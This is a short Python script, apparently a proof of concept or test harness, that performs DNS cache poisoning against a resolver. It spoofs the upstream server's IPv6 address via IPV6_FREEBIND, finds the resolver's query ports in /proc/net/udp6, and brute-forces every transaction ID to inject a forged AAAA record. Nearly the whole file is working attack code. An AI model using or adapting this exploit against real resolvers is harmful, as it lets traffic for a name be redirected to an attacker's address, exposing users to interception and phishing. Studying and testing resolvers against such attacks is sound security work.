# SPDX-License-Identifier: MIT
"""poison.py NAME SERVER ADDRESS: an answer for a name below a listed one that is not the resolver's
upstream's: sent from the upstream's own address, which IPv6 lets anybody bind to (IPV6_FREEBIND), to the
port that /proc/net/udp6 shows, with each number that a query can have. Says `spoofed` if packets could be
sent, and then what the resolver has answered."""
import socket
import struct
import sys

name, upstream, address = sys.argv[1:4]
IPV6_FREEBIND = 78


def encode(text):
    return b"".join(bytes([len(word)]) + word.encode() for word in text.split(".")) + b"\0"


def ports():
    with open("/proc/net/udp6", encoding="ascii") as f:
        return {int(line.split()[1].split(":")[1], 16) for line in f.readlines()[1:]}


question = encode(name) + struct.pack("!HH", 28, 1)
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.settimeout(5)
client.connect(("127.0.0.1", 53))
fake = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
fake.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
fake.bind((upstream, 53))
before = ports()
client.send(struct.pack("!6H", 4711, 0x0100, 1, 0, 0, 0) + question)
new = set()
while not new:
    new = ports() - before
# The question is known and the port too, so that nothing has to be guessed but 16 bits.
rest = struct.pack("!5H", 0x8180, 1, 1, 0, 0) + question
rest += b"\xc0\x0c" + struct.pack("!HHIH", 28, 1, 60, 16) + socket.inet_pton(socket.AF_INET6, address)
for port in new:
    for number in range(65536):
        fake.sendto(struct.pack("!H", number) + rest, ("fd00::100", port))
print("spoofed")
answer = client.recv(4096)
count = struct.unpack("!H", answer[6:8])[0]
print(socket.inet_ntop(socket.AF_INET6, answer[-16:]) if count else "nothing")
